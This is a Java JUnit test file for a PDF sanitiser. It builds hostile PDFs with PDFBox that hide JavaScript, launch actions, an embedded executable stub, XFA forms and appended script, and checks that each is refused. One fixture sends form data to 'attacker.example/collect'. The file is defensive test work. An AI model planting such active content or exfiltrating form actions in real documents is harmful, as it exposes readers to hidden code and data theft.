package org.raporto.content;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.Consumer;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDDocumentOutline;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDOutlineItem;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** PDFs are taken by their content; hostile ones are built here with PDFBox, each hiding its active content elsewhere. */
class PdfCheckTest {

    @Test
    void aPlainPdfIsTakenAndWrittenAgainWithoutWhatWasAppendedToIt() throws Exception {
        byte[] plain = pdf(document -> { });
        byte[] appended = concat(plain, "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.US_ASCII));
        byte[] clean = PdfCheck.clean(appended);
        assertThat(new String(clean, StandardCharsets.ISO_8859_1)).startsWith("%PDF-").doesNotContain("<script>");
        try (PDDocument document = Loader.loadPDF(clean)) {
            assertThat(document.getNumberOfPages()).isEqualTo(1);
        }
    }

    @Test
    void linksToOtherSitesAreNotActiveContent() throws Exception {
        byte[] withLink = pdf(document -> {
            PDAnnotationLink link = new PDAnnotationLink();
            PDActionURI uri = new PDActionURI();
            uri.setURI("https://isigurt.al/");
            link.setAction(uri);
            annotations(document).add(link);
        });
        assertThat(PdfCheck.clean(withLink)).isNotEmpty();
    }

    @Test
    void notAPdfByItsContentIsRefusedWhateverItsName() {
        assertRefused("<html><body>manual.pdf</body></html>".getBytes(StandardCharsets.UTF_8), PdfCheck.Reason.NOT_A_PDF);
        assertRefused(new byte[0], PdfCheck.Reason.NOT_A_PDF);
        assertRefused("%PDF-1.7\nnothing but garbage after the magic\n".getBytes(StandardCharsets.US_ASCII), PdfCheck.Reason.UNREADABLE);
    }

    @Test
    void aTruncatedPdfIsRefusedAsUnreadable() throws Exception {
        byte[] whole = pdf(document -> { });
        byte[] cut = java.util.Arrays.copyOf(whole, whole.length / 3);
        assertThatThrownBy(() -> PdfCheck.clean(cut)).isInstanceOfSatisfying(PdfCheck.Refused.class,
                refused -> assertThat(refused.reason()).isIn(PdfCheck.Reason.UNREADABLE));
    }

    @Test
    void encryptedPdfsAreRefusedWithAndWithoutAPasswordToOpenThem() throws Exception {
        assertRefused(encrypted("open sesame"), PdfCheck.Reason.ENCRYPTED);
        assertRefused(encrypted(""), PdfCheck.Reason.ENCRYPTED);
    }

    @Test
    void javaScriptRunOnOpeningIsRefused() throws Exception {
        assertRefused(pdf(document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('hi')"))),
                PdfCheck.Reason.JAVASCRIPT);
    }

    @Test
    void javaScriptInThePageActionsTheNamesTreeOrAnOutlineItemIsRefused() throws Exception {
        assertRefused(pdf(document -> {
            PDPageAdditionalActions actions = new PDPageAdditionalActions();
            actions.setO(new PDActionJavaScript("this.print()"));
            document.getPage(0).setActions(actions);
        }), PdfCheck.Reason.JAVASCRIPT);
        assertRefused(pdf(document -> {
            PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
            scripts.setNames(java.util.Map.of("init", new PDActionJavaScript("app.alert(1)")));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setJavascript(scripts);
            document.getDocumentCatalog().setNames(names);
        }), PdfCheck.Reason.JAVASCRIPT);
        assertRefused(pdf(document -> {
            PDDocumentOutline outline = new PDDocumentOutline();
            PDOutlineItem item = new PDOutlineItem();
            item.setTitle("Chapter 1");
            item.setAction(new PDActionJavaScript("app.launchURL('https://example.org')"));
            outline.addLast(item);
            document.getDocumentCatalog().setDocumentOutline(outline);
        }), PdfCheck.Reason.JAVASCRIPT);
    }

    @Test
    void aLaunchActionOnALinkIsRefused() throws Exception {
        assertRefused(pdf(document -> {
            PDAnnotationLink link = new PDAnnotationLink();
            PDActionLaunch launch = new PDActionLaunch();
            launch.setFile(new PDComplexFileSpecification());
            link.setAction(launch);
            annotations(document).add(link);
        }), PdfCheck.Reason.LAUNCH);
    }

    @Test
    void embeddedFilesAreRefused() throws Exception {
        assertRefused(pdf(document -> {
            PDComplexFileSpecification file = new PDComplexFileSpecification();
            file.setFile("payload.exe");
            try {
                file.setEmbeddedFile(new PDEmbeddedFile(document, new java.io.ByteArrayInputStream(new byte[] {'M', 'Z'})));
            }
            catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
            PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(java.util.Map.of("payload.exe", file));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            document.getDocumentCatalog().setNames(names);
        }), PdfCheck.Reason.EMBEDDED_FILE);
    }

    @Test
    void xfaFormsAreRefused() throws Exception {
        assertRefused(pdf(document -> {
            PDAcroForm form = new PDAcroForm(document);
            form.getCOSObject().setString(COSName.getPDFName("XFA"), "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>");
            document.getDocumentCatalog().setAcroForm(form);
        }), PdfCheck.Reason.XFA);
    }

    @Test
    void formSubmissionIsRefusedAsActiveContent() throws Exception {
        assertRefused(pdf(document -> {
            PDAnnotationLink link = new PDAnnotationLink();
            COSDictionary submit = new COSDictionary();
            submit.setName(COSName.TYPE, "Action");
            submit.setName(COSName.getPDFName("S"), "SubmitForm");
            submit.setString(COSName.getPDFName("F"), "https://attacker.example/collect");
            link.getCOSObject().setItem(COSName.A, submit);
            annotations(document).add(link);
        }), PdfCheck.Reason.ACTIVE_CONTENT);
    }

    private static void assertRefused(byte[] file, PdfCheck.Reason reason) {
        assertThatThrownBy(() -> PdfCheck.clean(file)).isInstanceOfSatisfying(PdfCheck.Refused.class,
                refused -> assertThat(refused.reason()).isEqualTo(reason));
    }

    private static List<org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation> annotations(PDDocument document) {
        try {
            List<org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation> annotations = document.getPage(0).getAnnotations();
            document.getPage(0).setAnnotations(annotations);
            return annotations;
        }
        catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    static byte[] pdf(Consumer<PDDocument> hostile) throws IOException {
        return PdfChecks.pdf(hostile);
    }

    private static byte[] encrypted(String userPassword) throws IOException {
        try (PDDocument document = Loader.loadPDF(pdf(plain -> { }))) {
            StandardProtectionPolicy policy = new StandardProtectionPolicy("owner secret", userPassword, new AccessPermission());
            policy.setEncryptionKeyLength(128);
            document.protect(policy);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        }
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] both = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, both, a.length, b.length);
        return both;
    }
}
